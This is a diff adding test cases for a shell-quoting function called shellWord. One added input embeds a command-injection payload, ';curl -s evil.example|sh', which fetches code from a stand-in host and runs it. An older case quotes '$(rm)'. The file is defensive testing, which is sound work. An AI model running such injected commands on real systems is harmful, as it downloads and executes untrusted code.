@@ -9,6 +9,9 @@ test.each([
   ['$(rm)', "'$(rm)'"],
   ["it's", `'it'\\''s'`],
   ['system:node:a', 'system:node:a'],
+  ['ops@jump/77/x;curl -s evil.example|sh', "'ops@jump/77/x;curl -s evil.example|sh'"],
+  ["a\n  → it's", String.raw`$'a\u000a  → it\'s'`],
+  ['a\u202eb\\', String.raw`$'a\u202eb\\'`],
 ])('%s', (word, expected) => {
   expect(shellWord(word)).toBe(expected)
 })
